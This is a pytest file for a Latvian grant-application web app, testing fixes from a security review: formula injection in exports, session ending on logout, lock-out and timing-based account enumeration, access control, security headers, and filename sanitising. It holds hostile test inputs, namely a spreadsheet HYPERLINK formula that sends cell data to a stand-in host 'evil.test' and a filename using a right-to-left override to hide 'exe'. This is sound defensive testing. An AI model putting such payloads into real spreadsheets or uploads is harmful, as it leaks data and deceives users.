"""Findings of an attacker's review, each with the test that showed it: formulas in exports,
sessions that outlive logout, drafts seen by the municipality, the bare cooperation step,
lock-outs anyone can trigger, timing that tells which accounts exist, evaluators' names in
the history, budgets below what is committed, mail to unconfirmed addresses, security
headers, direction-override characters in file names and reports created by a GET."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from grantflow.core.extensions import db
from grantflow.core.safety import spreadsheet_cell
from grantflow.mail.models import OutboxMail
from grantflow.workflow import engine
from tests.conftest import login
from tests.factories import PASSWORD
from tests.test_apply import PDF
from tests.test_ranking import ranking_export, scored

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&C2,"Klikšķini")'


# --- 1. spreadsheet formulas ------------------------------------------------------------------
def test_spreadsheet_cell_neutralises_formulas_and_keeps_numbers():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK):
        assert spreadsheet_cell(text) == "'" + text
    for value in ("Biedrība", "", 5, -5, 1.5):
        assert spreadsheet_cell(value) == value


def test_ranking_exports_carry_no_formulas(client, factory):
    competition = factory.competition()
    org = factory.organisation(name=HYPERLINK)
    scored(factory, competition, [9, 9], title="@SUM(1+1)", org=org, amount="1000.00")
    admin = factory.admin()
    db.session.commit()
    login(client, admin.email)
    body = ranking_export(client, competition.id, "csv").get_data().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[2] == "'@SUM(1+1)" and row[3] == "'" + HYPERLINK
    sheet = load_workbook(
        io.BytesIO(ranking_export(client, competition.id, "xlsx").get_data())
    ).active
    values = list(sheet.values)[1]
    assert values[2] == "'@SUM(1+1)" and values[3] == "'" + HYPERLINK
    assert all(not (isinstance(v, str) and v.startswith("=")) for row in sheet.values for v in row)
    assert isinstance(values[7], (int, float))  # the requested amount stays a number


# --- 2. logging out ends the session on the server --------------------------------------------
def _browser(app, **cookies):
    browser = app.test_client()
    for name, value in cookies.items():
        browser.set_cookie(name, value)
    return browser


def test_logout_ends_the_session_and_the_remember_cookie(client, app, factory):
    user = factory.applicant()
    db.session.commit()
    client.post("/login", data={"email": user.email, "password": PASSWORD, "remember": "y"})
    session_cookie, remember = client.get_cookie("session").value, client.get_cookie("remember_token").value
    assert user.name in _browser(app, session=session_cookie).get("/").get_data(as_text=True)
    assert user.name in _browser(app, remember_token=remember).get("/").get_data(as_text=True)
    client.post("/logout")
    assert user.name not in _browser(app, session=session_cookie).get("/").get_data(as_text=True)
    assert user.name not in _browser(app, remember_token=remember).get("/").get_data(as_text=True)
    login(client, user.email)  # and logging in again works
    assert user.name in client.get("/").get_data(as_text=True)


def test_deactivation_ends_the_sessions(client, app, factory):
    user = factory.applicant()
    db.session.commit()
    login(client, user.email)
    session_cookie = client.get_cookie("session").value
    user.active = False
    db.session.commit()
    user.active = True  # even once active again, the old session stays ended
    db.session.commit()
    assert user.name not in _browser(app, session=session_cookie).get("/").get_data(as_text=True)


# --- 3. the municipality sees filed ideas only ------------------------------------------------
def test_the_municipality_cannot_read_drafts_or_their_files(client, factory):
    from grantflow.ideas.operations import store_attachment

    draft = factory.idea(competition=factory.competition(workflow="resource_centre"))
    owner = factory.member_of(draft.organisation)
    representative = factory.user("municipality", municipality=draft.municipality)
    db.session.commit()
    attachment = store_attachment(draft, "a.pdf", PDF, "quote", owner)
    db.session.commit()
    login(client, representative.email)
    for url in (f"/ideas/{draft.id}", f"/apply/attachments/{attachment.id}"):
        assert client.get(url).status_code == 404, url
    engine.fire(draft, "submit", owner)
    db.session.commit()
    for url in (f"/ideas/{draft.id}", f"/apply/attachments/{attachment.id}"):
        assert client.get(url).status_code == 200, url


# --- 4. the municipality's confirmation only through the cooperation form ----------------------
def test_the_bare_cooperation_step_is_refused(client, factory):
    from grantflow.funding.models import CooperationConfirmation
    from grantflow.workflow.models import AuditEntry

    idea = factory.reviewed(competition=factory.competition(workflow="resource_centre"))
    representative = factory.user("municipality", municipality=idea.municipality)
    db.session.commit()
    login(client, representative.email)
    page = client.get(f"/ideas/{idea.id}").get_data(as_text=True)
    assert "/steps/confirm_cooperation" not in page  # no generic button for it
    audit = db.session.scalar(select(func.count(AuditEntry.id)))
    client.post(f"/ideas/{idea.id}/steps/confirm_cooperation", data={"version": str(idea.version)})
    db.session.expire_all()
    assert idea.state == "reviewed" and db.session.scalar(select(func.count(AuditEntry.id))) == audit
    assert db.session.scalar(select(func.count(CooperationConfirmation.id))) == 0


# --- 5. a stranger cannot lock the owner out -------------------------------------------------
def _attempt(client, email, password, ip):
    return client.post("/login", data={"email": email, "password": password}, environ_base={"REMOTE_ADDR": ip})


def test_a_strangers_failures_do_not_lock_the_owner_out(client, factory):
    owner = factory.user(email="anna@example.lv")
    db.session.commit()
    codes = [_attempt(client, owner.email, "nepareizi-123", "203.0.113.9").status_code for _ in range(8)]
    assert codes[:3] == [200, 200, 200] and set(codes[3:]) == {429}  # the stranger is limited
    assert _attempt(client, owner.email, PASSWORD, "203.0.113.9").status_code == 429
    assert _attempt(client, owner.email, PASSWORD, "198.51.100.7").status_code == 302  # the owner is not
    assert _attempt(client, owner.email, PASSWORD, "203.0.113.9").status_code == 429  # and does not unlock it


# --- 6. no timing hint of which accounts exist ------------------------------------------------
@pytest.fixture
def hashes(monkeypatch):
    """Counts the password hashes made or checked (the expensive work) during a request."""
    import grantflow.accounts.models as models
    import grantflow.accounts.operations as operations

    operations._dummy_hash()  # made once per process, on first use: not part of a request's cost
    calls = []

    def counting(function, name):  # by the name the app calls (the suite swaps in a quicker hash)
        def counted(*args, **kwargs):
            if name == "generate_password_hash" or "$" in args[0]:  # checking "!" costs nothing
                calls.append(name)
            return function(*args, **kwargs)

        return counted

    for module in (models, operations):
        for name in ("generate_password_hash", "check_password_hash"):
            if hasattr(module, name):
                monkeypatch.setattr(module, name, counting(getattr(module, name), name))
    return calls


def test_every_login_registration_and_reset_path_hashes_once(client, factory, hashes):
    active = factory.user(email="anna@example.lv")
    inactive = factory.user(email="berta@example.lv")
    inactive.active = False
    without_password = factory.user(email="kontakts@example.lv")
    without_password.password_hash, without_password.active = "!", False
    db.session.commit()

    def count(path, data, ip):
        hashes.clear()
        client.post(path, data=data, environ_base={"REMOTE_ADDR": ip})
        return len(hashes)

    logins = {
        "unknown": count("/login", {"email": "nav@example.lv", "password": "nepareizi-123"}, "10.0.0.1"),
        "wrong": count("/login", {"email": active.email, "password": "nepareizi-123"}, "10.0.0.2"),
        "inactive": count("/login", {"email": inactive.email, "password": PASSWORD}, "10.0.0.3"),
        "no password": count("/login", {"email": without_password.email, "password": "x" * 12}, "10.0.0.4"),
        "right": count("/login", {"email": active.email, "password": PASSWORD}, "10.0.0.5"),
    }
    assert set(logins.values()) == {1}, logins
    client.post("/logout")
    new = {
        "name": "Jauna",
        "email": "jauna@example.lv",
        "password": "rudens-lapas-2026",
        "password_again": "rudens-lapas-2026",
    }
    registrations = {
        "new": count("/register", new, "10.0.1.1"),
        "taken": count("/register", {**new, "email": active.email}, "10.0.1.2"),
    }
    assert set(registrations.values()) == {1}, registrations
    resets = {
        "known": count("/password/forgot", {"email": active.email}, "10.0.2.1"),
        "unknown": count("/password/forgot", {"email": "nav@example.lv"}, "10.0.2.2"),
        "inactive": count("/password/forgot", {"email": inactive.email}, "10.0.2.3"),
    }
    assert set(resets.values()) == {1}, resets


# --- 7. who evaluated is for administrators ---------------------------------------------------
def test_the_history_names_evaluators_only_to_administrators(client, factory):
    first = factory.evaluator(name="Elza Vērtētāja")
    second = factory.evaluator(name="Pēteris Vērtētājs")
    idea = factory.in_review(evaluators=[first, second])
    factory.review(idea, second)
    engine.record(idea, "review_submitted", second)  # as review.operations does on submitting
    representative = factory.user("municipality", municipality=idea.municipality, name="Rita Pašvaldniece")
    admin = factory.admin()
    db.session.commit()
    submitted = "Vērtētājs iesniedza vērtējumu"

    def page(user):
        login(client, user.email)
        text = client.get(f"/ideas/{idea.id}").get_data(as_text=True)
        client.post("/logout")
        return text.split('id="history"')[1]

    before_own = page(first)  # the first evaluator has not submitted: no other evaluator's acts
    assert "Pēteris Vērtētājs" not in before_own and submitted not in before_own
    municipality = page(representative)  # the step, without the name
    assert submitted in municipality and "Pēteris Vērtētājs" not in municipality
    own = page(second)
    assert submitted in own and "Pēteris Vērtētājs" in own  # their own act
    assert "Pēteris Vērtētājs" in page(admin)
    factory.review(idea, first)
    engine.record(idea, "review_submitted", first)
    db.session.commit()
    after_own = page(first)
    assert after_own.count(submitted) == 2 and "Pēteris Vērtētājs" not in after_own


# --- 8. a budget below what is committed ------------------------------------------------------
def test_the_budget_cannot_go_below_what_is_committed(client, factory):
    from grantflow.competitions.models import Competition
    from tests.test_competitions import FORM

    idea = factory.funded()  # 1,000 € committed
    admin = factory.admin()
    db.session.commit()
    competition = idea.competition
    login(client, admin.email)
    data = dict(FORM, code=competition.code, workflow=competition.workflow, budget="999.99", max_grant="900")
    response = client.post(f"/competitions/{competition.id}/edit", data=data)
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'id="budget-error"' in page and "jau piešķirta atbalstītajām idejām: 1 000,00 €" in page.replace("\xa0", " ")
    db.session.expire_all()
    assert db.session.get(Competition, competition.id).budget == Decimal("10000.00")
    response = client.post(f"/competitions/{competition.id}/edit", data=dict(data, budget="1000.00"))
    assert response.status_code == 303  # down to exactly what is committed is fine


# --- 9. mail only to confirmed account holders ------------------------------------------------
def test_the_typed_contact_email_and_unconfirmed_members_get_no_mail(app, factory):
    from grantflow.ideas.operations import applicant_addresses
    from grantflow.mail.models import OutboxMail

    idea = factory.idea()
    idea.contact_email = "someone-else@example.com"
    member = factory.member_of(idea.organisation)
    unconfirmed = factory.applicant(org=idea.organisation)
    unconfirmed.email_confirmed_at = None
    db.session.flush()
    assert applicant_addresses(idea) == [(member.email, member.locale)]
    engine.fire(idea, "submit", member)
    db.session.commit()
    assert db.session.scalars(select(OutboxMail.to_addr)).all() == [member.email]


# --- 10. HSTS in production, no caching of signed-in pages ------------------------------------
def test_signed_in_pages_are_not_stored_and_production_sends_hsts(client, factory, make_app):
    user = factory.applicant()
    db.session.commit()
    assert "no-store" not in client.get("/login").headers.get("Cache-Control", "")
    assert "Strict-Transport-Security" not in client.get("/login").headers  # not in development
    login(client, user.email)
    for url in ("/", "/orgs/"):
        assert client.get(url).headers["Cache-Control"] == "no-store", url
    production = make_app(GRANTFLOW_ENV="production", SECRET_KEY="x" * 40)
    headers = production.test_client().get("/login", base_url="https://grantflow.test").headers
    assert headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"


# --- 11. file names and reports -----------------------------------------------------------------
def test_upload_names_lose_direction_overrides_and_other_format_characters():
    from grantflow.core.uploads import safe_filename

    assert safe_filename("rēķins\u202eexe.pdf", "pdf") == "rēķinsexe.pdf"
    for char in (
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u202e",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200b",
        "\u200f",
        "\ufeff",
        "\u0085",
    ):
        assert safe_filename(f"tā{char}me.pdf", "pdf") == "tāme.pdf", repr(char)


def test_a_get_of_the_report_page_creates_no_report(client, factory):
    from grantflow.reports.models import Report

    idea = factory.funded()
    applicant = factory.member_of(idea.organisation)
    stranger = factory.applicant()
    db.session.commit()
    login(client, stranger.email)
    assert client.get(f"/reports/{idea.id}").status_code == 404
    client.post("/logout")
    login(client, applicant.email)
    page = client.get(f"/reports/{idea.id}").get_data(as_text=True)
    assert 'name="spending-0-actual"' in page  # the empty form, with the planned grant line
    assert db.session.scalar(select(func.count(Report.id))) == 0
    client.post(f"/reports/{idea.id}", data={"participants": "12", "action": "save"})
    report = db.session.scalars(select(Report)).one()
    assert report.participants == 12 and len(report.spending) == 1


def test_a_reset_request_writes_the_mail_whether_or_not_the_address_has_an_account(app, factory, monkeypatch):
    """The same work on both paths (the hash, and the mail written), so timing tells nothing;
    only the known address's mail is queued."""
    import grantflow.accounts.operations as operations
    import grantflow.mail.operations as mail

    rendered = []
    real = mail.render_mail

    def counting(*args, **kwargs):
        rendered.append(args[0])
        return real(*args, **kwargs)

    monkeypatch.setattr(mail, "render_mail", counting)
    monkeypatch.setattr(operations, "render_mail", counting)
    known = factory.user(email="zinama@example.lv")
    db.session.commit()
    for email in (known.email, "nezinama@example.lv"):
        rendered.clear()
        operations.request_password_reset(email)
        assert rendered == ["reset_password"], email
    assert [m.to_addr for m in db.session.scalars(select(OutboxMail))] == [known.email]
